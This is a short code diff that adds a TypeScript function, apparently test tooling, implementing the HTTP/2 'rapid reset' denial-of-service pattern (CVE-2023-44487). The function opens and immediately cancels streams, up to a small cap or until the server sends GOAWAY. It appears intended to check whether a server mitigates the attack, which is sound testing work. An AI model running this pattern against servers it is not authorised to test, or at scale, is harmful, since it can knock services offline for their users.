@@ -148,3 +148,18 @@ export function requestFields(path: string, authority: string, method = 'GET'): 
     [':authority', authority],
   ];
 }
+
+/**
+ * The HTTP/2 "rapid reset" pattern (CVE-2023-44487): open a stream (HEADERS with
+ * END_STREAM, `fieldsFor(i)`), cancel it at once (RST_STREAM CANCEL), again, up to
+ * `max` streams or until the server sends GOAWAY.
+ */
+export async function rapidReset(raw: RawH2, fieldsFor: (i: number) => readonly (readonly [string, string])[], max = 60): Promise<void> {
+  let id = 1;
+  for (let i = 0; i < max && !raw.frames.some((f) => f.type === FRAME.GOAWAY); i++, id += 2) {
+    raw.send(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, headerBlock(fieldsFor(i))));
+    await new Promise((r) => setTimeout(r, 5));
+    raw.send(rstStream(id, ERROR.CANCEL));
+    await new Promise((r) => setTimeout(r, 5));
+  }
+}
